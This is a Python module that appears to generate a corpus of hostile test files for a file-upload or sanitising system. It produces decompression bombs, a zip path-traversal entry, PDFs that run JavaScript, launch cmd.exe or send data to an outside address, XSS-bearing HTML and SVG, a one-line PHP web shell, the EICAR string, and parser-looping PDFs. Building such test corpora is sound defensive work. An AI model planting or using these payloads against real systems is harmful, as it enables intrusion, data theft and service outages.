"""Hostile files: several hundred, made from a few whole ones: joined, cut, flipped, swollen, and with things in them that act.

Each has a name that says what was done, and its bytes are the same in every run. None names its own end: what must become of all of them
is said once, in the tests.
"""

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache
from itertools import permutations

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
LATITUDE = (52.0, 31.0, 12.0252)
SECRET = "Canary Street 7"

Files = Iterator[tuple[str, bytes]]


def whole() -> dict[str, bytes]:
    """Every file that is made here."""
    found: dict[str, bytes] = {}
    for make in (
        joined,
        carried,
        cut,
        flipped,
        swollen,
        moving,
        acting,
        acting_when_open,
        quiet,
        looping,
        spoken_for,
        odd,
    ):
        for name, content in make():
            assert name not in found, name
            found[name] = content
    return found


# --- whole ones ---


@cache
def _points() -> Image.Image:
    return Image.radial_gradient("L").resize((96, 72)).convert("RGB")


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = SECRET
    exif.get_ifd(0x8825).update({1: "N", 2: LATITUDE, 3: "E", 4: (13.0, 24.0, 18.0)})
    return exif


@cache
def picture(form: str, *, told: bool = False) -> bytes:
    """`told`: with where, when and by what it was made."""
    out = io.BytesIO()
    more: dict[str, object] = {"exif": _exif(), "icc_profile": b"profile of " + SECRET.encode() * 20} if told else {}
    if told and form == "PNG":
        about = PngImagePlugin.PngInfo()
        about.add_text("Comment", SECRET)
        about.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{SECRET}</x:xmpmeta>")
        more["pnginfo"] = about
    if told and form == "WEBP":
        more["xmp"] = f"<x:xmpmeta>{SECRET}</x:xmpmeta>".encode()
    if told and form == "JPEG":
        more["comment"] = SECRET.encode()
    _points().save(out, form, **more)
    return out.getvalue()


@cache
def pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    return _of(writer)


def _of(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def plain_pdf(*objects: bytes, trailer: bytes = b"", page: bytes = b"") -> bytes:
    """One page; `objects` from number 4 on, `page` and `trailer` what stands in theirs beside the usual."""
    bodies = [*_usual(trailer, page), *objects]
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, start)
    return bytes(out)


def _usual(trailer: bytes, page: bytes) -> tuple[bytes, bytes, bytes]:
    return (
        b"<< /Type /Catalog /Pages 2 0 R " + trailer + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] " + page + b" >>",
    )


def packed_pdf(body: bytes, trailer: bytes, page: bytes) -> bytes:
    """The same with all four in one stream of objects, and a table that is a stream (ISO 32000-1, 7.5.7 and 7.5.8)."""
    bodies = [*_usual(trailer, page), body]
    heads = [b"%d %d" % (number, sum(len(each) + 1 for each in bodies[: number - 1])) for number in range(1, 5)]
    head = b" ".join(heads) + b"\n"
    packed = zlib.compress(head + b"\n".join(bodies))
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = [len(out)]
    out += b"5 0 obj\n%s\nendobj\n" % stream(packed, b"/Type /ObjStm /N 4 /First %d /Filter /FlateDecode" % len(head))
    places.append(len(out))
    rows = [(0, 0, 255), *((2, 5, index) for index in range(4)), *((1, place, 0) for place in places)]
    table = b"".join(bytes([kind]) + where.to_bytes(4) + bytes([last]) for kind, where, last in rows)
    out += b"6 0 obj\n%s\nendobj\n" % stream(table, b"/Type /XRef /W [1 4 1] /Size 7 /Root 1 0 R")
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % places[1]


def stream(content: bytes, head: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), head, content)


@cache
def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("../../evil.sh", b"#!/bin/sh\necho owned\n")
        made.writestr("zeros", bytes(10**6))
    return out.getvalue()


@cache
def kinds() -> dict[str, bytes]:
    """Of each kind of file a small one."""
    gif = io.BytesIO()
    _points().save(gif, "GIF")
    bmp, tiff = io.BytesIO(), io.BytesIO()
    _points().save(bmp, "BMP")
    _points().save(tiff, "TIFF")
    return {
        "jpeg": picture("JPEG"), "png": picture("PNG"), "webp": picture("WEBP"), "pdf": pdf(), "gif": gif.getvalue(),
        "bmp": bmp.getvalue(), "tiff": tiff.getvalue(), "zip": archive(), "html": SCRIPT, "svg": SVG,
        "heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(40), "exe": b"MZ" + bytes(62) + b"PE\0\0" + bytes(200),
        "elf": b"\x7fELF\x02\x01\x01" + bytes(200), "rar": b"Rar!\x1a\x07\x01\x00" + bytes(60),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(60), "php": b"<?php system($_GET['c']); ?>", "js": b"/*\n*/alert(1)//" + bytes(9),
    }  # fmt: skip


# --- what is done to them ---


def joined() -> Files:
    """Each kind followed by each other: 272."""
    for first, second in permutations(kinds(), 2):
        yield f"{first} then {second}", kinds()[first] + kinds()[second]


def carried() -> Files:
    """Each kind inside of what may hold words: a comment, a chunk, a stream."""
    for kind, content in kinds().items():
        short = content[:60_000]
        jpeg = picture("JPEG")
        yield f"{kind} in a JPEG's comment", jpeg[:2] + b"\xff\xfe" + (len(short) + 2).to_bytes(2) + short + jpeg[2:]
        png = picture("PNG")
        yield f"{kind} in a PNG's text", png[:33] + chunk(b"tEXt", b"Comment\0" + short) + png[33:]
        yield f"{kind} in a WebP's chunk", riff(picture("WEBP")[12:], b"ABCD", short)
        if kind != "pdf":
            yield f"{kind} in a PDF's stream", plain_pdf(stream(content))


def cut() -> Files:
    for name in ("jpeg", "png", "webp", "pdf"):
        content = kinds()[name]
        for part in range(12):
            yield f"{name} cut to {part} of 12", content[: len(content) * part // 12] or content[: 1 + len(name)]


def flipped() -> Files:
    for name in ("jpeg", "png", "webp", "pdf"):
        for seed in range(15):
            chance, content = random.Random(f"{name} {seed}"), bytearray(kinds()[name])
            for _ in range(1 + seed % 5):
                content[chance.randrange(16, len(content))] ^= 1 << chance.randrange(8)
            yield f"{name} with bits flipped, {seed}", bytes(content)
    png = picture("PNG")
    for number, at in enumerate(
        place for place in range(len(png)) if png[place : place + 4] in (b"IHDR", b"IDAT", b"IEND")
    ):
        end = at + 4 + int.from_bytes(png[at - 4 : at])
        yield f"png with the wrong sum of chunk {number}", png[:end] + b"\0\0\0\0" + png[end + 4 :]


def chunk(kind: bytes, content: bytes) -> bytes:
    return len(content).to_bytes(4) + kind + content + zlib.crc32(kind + content).to_bytes(4)


def riff(chunks: bytes, kind: bytes, content: bytes) -> bytes:
    more = kind + struct.pack("<I", len(content)) + content + bytes(len(content) % 2)
    return b"RIFF" + struct.pack("<I", 4 + len(chunks) + len(more)) + b"WEBP" + chunks + more


def png_of(width: int, height: int, packed: bytes, *extra: bytes, depth: bytes = b"\x08\x02") -> bytes:
    head = chunk(b"IHDR", struct.pack(">II", width, height) + depth + b"\0\0\0")
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(extra) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def zeros(mib: int) -> bytes:
    """So many packed: one of them is, and repeated."""
    packing = zlib.compressobj(1, wbits=-15)
    one = packing.compress(bytes(2**20)) + packing.flush(zlib.Z_FULL_FLUSH)
    sums = (mib * 2**20 % 65_521 << 16 | 1).to_bytes(4)  # Adler-32 of noughts: RFC 1950, 8.2
    return b"\x78\x01" + one * mib + packing.flush() + sums


def swollen() -> Files:
    """Small files that would be large."""
    few = zeros(4)
    for width, height in ((2**31 - 1, 2**31 - 1), (65_535, 65_535), (100_000, 1), (1, 100_000), (0, 0), (9_000, 9_000)):
        yield f"png of {width} by {height}", png_of(width, height, few)
    yield (
        "png of 4,900 by 5,000 that holds it",
        png_of(4_900, 5_000, zlib.compress(bytes(5_000 * 4_901), 1), depth=b"\x08\0"),
    )
    for kind, head in ((b"zTXt", b"a\0\0"), (b"iCCP", b"a\0\0"), (b"iTXt", b"a\0\1\0\0\0")):
        bomb = chunk(kind, head + zeros(29))
        yield f"png with a bomb in its {kind.decode()}", png_of(8, 8, zlib.compress(bytes(200)), bomb)
    yield "png of which half is missing", png_of(800, 800, zlib.compress(bytes(800 * 1_200)))
    jpeg = picture("JPEG")
    at = jpeg.index(b"\xff\xc0") + 5
    for height, width in ((65_500, 65_500), (65_500, 1), (0, 64), (64, 0), (9_000, 9_000)):
        yield f"jpeg of {width} by {height}", jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :]
    canvas = b"\x10\0\0\0" + (16_382).to_bytes(3, "little") * 2
    yield "webp of 16,383 by 16,383", riff(b"VP8X" + struct.pack("<I", 10) + canvas, b"VP8 ", bytes(40))
    yield "zip bomb", archive() * 3
    flate = b"/Filter /FlateDecode"
    yield "pdf with a bomb", plain_pdf(stream(zeros(140), flate), page=b"/Contents 4 0 R")
    once = zeros(57)
    twice = b"/Filter [ /FlateDecode /FlateDecode ]"
    yield "pdf with a bomb within a bomb", plain_pdf(stream(zlib.compress(once, 9), twice), page=b"/Contents 4 0 R")
    yield "pdf with a bomb in twelve parts", plain_pdf(*[stream(zeros(14), flate)] * 12)
    yield (
        "pdf with a bomb for a table of objects",
        plain_pdf(stream(zeros(90), flate + b" /Type /ObjStm /N 100000 /First 800000")),
    )
    yield "pdf of 60 pages", pdf(60)


def moving() -> Files:
    frames = [_points().rotate(turn) for turn in range(0, 200, 5)]
    for form in ("GIF", "PNG", "WEBP", "TIFF"):
        out = io.BytesIO()
        frames[0].save(out, form, save_all=True, append_images=frames[1:])
        yield f"{form} of {len(frames)} pictures", out.getvalue()


def acting() -> Files:
    """PDFs that do something, or carry what does."""
    scripts = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    yield "pdf that runs a script", plain_pdf(trailer=b"/OpenAction " + scripts)
    yield "pdf that runs a script by another name", plain_pdf(trailer=b"/OpenAction << /S /J#61vaScript /J#53 (x) >>")
    yield "pdf with a named script", plain_pdf(trailer=b"/Names << /JavaScript << /Names [(a) " + scripts + b"] >> >>")
    yield "pdf with a script of a page", plain_pdf(page=b"/AA << /O " + scripts + b" >>")
    yield "pdf that starts a program", plain_pdf(trailer=b"/OpenAction << /S /Launch /F (cmd.exe) >>")
    yield "pdf that sends a form", plain_pdf(trailer=b"/OpenAction << /S /SubmitForm /F (http://192.0.2.1/) >>")
    yield "pdf that takes a form in", plain_pdf(trailer=b"/OpenAction << /S /ImportData /F (x.fdf) >>")
    yield (
        "pdf that opens another",
        plain_pdf(trailer=b"/OpenAction << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\x) /D [0 /Fit] >>"),
    )
    yield "pdf that opens one within", plain_pdf(trailer=b"/OpenAction << /S /GoToE /F (x) >>")
    yield (
        "pdf with a file in it",
        plain_pdf(
            stream(b"MZ", b"/Type /EmbeddedFile"),
            b"<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>",
            trailer=b"/Names << >>",
        ),
    )
    yield "pdf with a form of XML", plain_pdf(stream(b"<xdp/>"), trailer=b"/AcroForm << /XFA 4 0 R >>")
    yield "pdf with a film", plain_pdf(b"<< /Type /Annot /Subtype /Movie >>", page=b"/Annots [4 0 R]")
    yield "pdf with media", plain_pdf(b"<< /Type /Annot /Subtype /RichMedia >>", page=b"/Annots [4 0 R]")
    yield "pdf that is a folder", plain_pdf(trailer=b"/Collection << >>")
    hidden = stream(zlib.compress(b"5 0 " + scripts), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    yield "pdf with a script that is packed away", plain_pdf(hidden)
    yield "pdf with a script that no table names", plain_pdf() + b"9 0 obj\n" + scripts + b"\nendobj\n%%EOF\n"
    yield "pdf whose script an update took away", plain_pdf(scripts) + plain_pdf()[9:]
    yield "pdf that is locked", _locked()


SHARE = rb"(\\\\192.0.2.1\\share\\x)"
# What happens because a page is open, or reaches another file: each stands in the catalog, in the page, or as object 4.
ACTS: dict[str, tuple[bytes, bytes, bytes]] = {
    "opens an address": (b"/OpenAction << /S /URI /URI (http://192.0.2.1/) >>", b"", b"null"),
    "opens an address by a reference": (b"/OpenAction 4 0 R", b"", b"<< /Type /Action /S /URI /URI (http://192.0.2.1/) >>"),
    "opens a page and then an address": (b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://a/) >> >>"),
    "prints itself": (b"/OpenAction << /S /Named /N /Print >>", b"", b"null"),
    "acts when its page is seen": (b"", b"/AA << /O << /S /URI /URI (http://192.0.2.1/) >> >>", b"null"),
    "acts when it is closed": (b"/AA 4 0 R", b"", b"<< /WC << /S /Named /N /Print >> >>"),
    "follows a thread elsewhere": (b"", b"/Annots [4 0 R]", b"<< /Subtype /Link /A << /S /Thread /F " + SHARE + b" /D 0 >> >>"),
    "has its contents elsewhere": (b"", b"/Contents 4 0 R", stream(b"", b"/F " + SHARE)),
    "has its contents in a file that is described": (b"", b"/Contents 4 0 R", stream(b"", b"/F << /FS /URL /F " + SHARE + b" >>")),
    "draws a page of another": (b"", b"", stream(b"", b"/Subtype /Form /Ref << /F " + SHARE + b" /Page 0 >>")),
    "has a body in space": (b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>"),
    "has a body that begins by itself": (b"", b"/Annots [4 0 R]", stream(b"", b"/OnInstantiate 3 0 R")),
    "has a screen": (b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Screen >>"),
    "leads to a file": (b"", b"/Annots [4 0 R]", b"<< /Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >> >>"),
    "leads to a script": (b"", b"/Annots [4 0 R]", b"<< /Subtype /Link /A << /S /URI /URI (javascript:x) >> >>"),
    "has another beginning of addresses": (b"/URI << /Base (file:///) >>", b"", b"null"),
}  # fmt: skip
_ESCAPES = {
    name: b"/#%02x" % name[1] + name[2:]
    for name in (b"/OpenAction", b"/AA", b"/Thread", b"/F ", b"/3D", b"/OnInstantiate", b"/URI")
}


def acting_when_open() -> Files:
    """As they are; with names spelt by numbers; in a stream of objects; in an update; and taken away by one, for who reads it otherwise."""
    for what, (catalog, page, body) in ACTS.items():
        acts = plain_pdf(body, trailer=catalog, page=page)
        yield f"pdf that {what}", acts
        spelt = acts
        for name, escape in _ESCAPES.items():
            spelt = spelt.replace(name, escape)
        if spelt != acts:
            yield f"pdf that {what}, spelt by numbers", spelt
        if b"stream" not in body:
            yield f"pdf that {what}, packed away", packed_pdf(body, catalog, page)
        yield f"pdf that {what} since an update", plain_pdf() + updated(acts)


def updated(later: bytes) -> bytes:
    """What is appended to a file whose later state this is: its objects, and a table of them with their new places."""
    shift = len(plain_pdf())
    body, _, rest = later[9:].partition(b"xref\n")
    moved = re.sub(rb"(\d{10}) 00000 n", lambda at: b"%010d 00000 n" % (int(at[1]) - 9 + shift), rest)
    return body + b"xref\n" + re.sub(rb"startxref\n\d+", b"startxref\n%d" % (shift + len(body)), moved)


# What a reader may click, and where a file may open: these are kept.
QUIET: dict[str, tuple[bytes, bytes]] = {
    "opens at a page": (b"/OpenAction [3 0 R /XYZ null null 0]", b"null"),
    "opens at a page by a reference": (b"/OpenAction 4 0 R", b"<< /S /GoTo /D [3 0 R /Fit] >>"),
    "opens at a page by an action": (b"/OpenAction << /Type /Action /D [3 0 R /Fit] /S /GoTo >>", b"null"),
    "leads to the web": (b"", b"<< /Type /Annot /Subtype /Link /F 4 /A << /S /URI /URI (https://bank.example/) >> >>"),
    "leads to a mail and a telephone": (b"", b"[<< /S /URI /URI (mailto:a@bank.example) >> << /S /URI /URI <74656C3A31> >>]"),
    "has names that look alike": (b"", b"<< /Font << /F 3 0 R /AA1 3 0 R >> /Threads [] >>"),
    "has words in other letters": (b"", b"<< /Title <FEFF00C4> /Author (\xef\xbb\xbfx) /Subject (\xff\xfeA\0) /\xb0\xa1 (x) >>"),
}  # fmt: skip


def quiet() -> Files:
    for what, (catalog, body) in QUIET.items():
        yield f"pdf that {what}", plain_pdf(body, trailer=catalog, page=b"/Annots [4 0 R]")
        yield f"pdf that {what}, packed away", packed_pdf(body, catalog, b"/Annots [4 0 R]")


def _locked() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(99, 99)
    writer.encrypt("word", algorithm="RC4-128")
    return _of(writer)


def looping() -> Files:
    """PDFs without end."""
    yield "pdf whose page is its own parent", plain_pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")
    yield "pdf whose tables name each other", plain_pdf().replace(b"/Size 4", b"/Size 4 /Prev 15")
    at = plain_pdf().index(b"xref\n")
    yield "pdf whose table follows itself", plain_pdf().replace(b"/Size 4", b"/Size 4 /Prev %d" % at)
    yield "pdf whose table is nowhere", plain_pdf().replace(b"startxref\n", b"startxref\n9999999")
    yield "pdf whose table is elsewhere", plain_pdf().replace(b"startxref\n", b"startxref\n-")
    yield (
        "pdf whose length is its own",
        plain_pdf(b"<< /Length 4 0 R >>\nstream\nx\nendstream", page=b"/Contents 4 0 R"),
    )
    yield "pdf of arrays in arrays", plain_pdf(b"[" * 20_000 + b"]" * 20_000)
    yield "pdf of dictionaries in dictionaries", plain_pdf(b"<< /A " * 5_000 + b"1" + b" >>" * 5_000)
    yield "pdf that counts a million pages", plain_pdf().replace(b"/Count 1", b"/Count 1000000")
    yield "pdf with half a million names", plain_pdf(b"[" + b"/A " * 520_000 + b"]")
    yield "pdf with a reference to itself", plain_pdf(b"4 0 R")
    yield "pdf of thirty thousand objects", plain_pdf(*[b"null"] * 30_000)
    yield "pdf without pages", plain_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0")


def spoken_for() -> Files:
    """Pictures that tell of their maker, and files that call themselves others."""
    for form in ("JPEG", "PNG", "WEBP"):
        yield f"{form} that tells where it was made", picture(form, told=True)
    for name, magic in (
        ("jpeg", b"\xff\xd8\xff\xe0"),
        ("png", b"\x89PNG\r\n\x1a\n"),
        ("pdf", b"%PDF-1.7\n"),
        ("gif", b"GIF89a"),
    ):
        yield f"a page that begins as {name}", magic + SCRIPT
        yield f"a page that begins as {name} and ends as a PDF", magic + SCRIPT + b"\n%%EOF\n"
        yield f"a drawing that begins as {name}", magic + SVG
    for number, text in enumerate(
        (SVG, b"\xef\xbb\xbf" + SVG, b" \n" + SVG, SVG.decode().encode("utf-16"), b"<svg/onload=alert(1)>")
    ):
        yield f"svg with a script, {number}", text
    whole_pdf = pdf()
    yield "pdf after a page", SCRIPT + whole_pdf
    yield "pdf with a page in a comment", whole_pdf[:9] + b"%" + SCRIPT + b"\n" + whole_pdf[9:]
    yield "pdf with an archive before its end", whole_pdf + archive() + b"\n%%EOF\n"
    yield "pdf that is a tape, too", plain_pdf(b"(" + b"x" * 400 + b")")[:257].ljust(257, b" ") + b"ustar" + plain_pdf()
    yield "pdf with noughts after it", whole_pdf + bytes(5_000)
    yield "an empty file", b""
    yield "the test virus", EICAR
    yield "the test virus in a JPEG", picture("JPEG") + EICAR
    yield "the test virus in a PNG", picture("PNG")[:33] + chunk(b"tEXt", b"a\0" + EICAR) + picture("PNG")[33:]


def odd() -> Files:
    """Pictures as few programs make them; they are pictures all the same."""
    for mode in ("1", "L", "LA", "P", "RGBA", "I;16"):
        out = io.BytesIO()
        made = (
            Image.new("I;16", (40, 30), 40_000)
            if mode == "I;16"
            else _points().convert("L" if mode == "LA" else "RGB").convert(mode)
        )
        made.save(out, "PNG")
        yield f"png in mode {mode}", out.getvalue()
    for mode in ("CMYK", "L"):
        out = io.BytesIO()
        _points().convert(mode).save(out, "JPEG", progressive=True)
        yield f"jpeg in mode {mode}", out.getvalue()
    for turn in range(10):
        exif = Image.Exif()
        exif[0x0112] = turn
        out = io.BytesIO()
        _points().save(out, "JPEG", exif=exif)
        yield f"jpeg that is to be turned by way {turn}", out.getvalue()
    jpeg = picture("JPEG", told=True)
    at = jpeg.index(b"Exif\0\0")
    for seed in range(8):
        chance, broken = random.Random(seed), bytearray(jpeg)
        for place in range(at + 6, at + 60):
            broken[place] = chance.randrange(256)
        yield f"jpeg whose EXIF is noise, {seed}", bytes(broken)
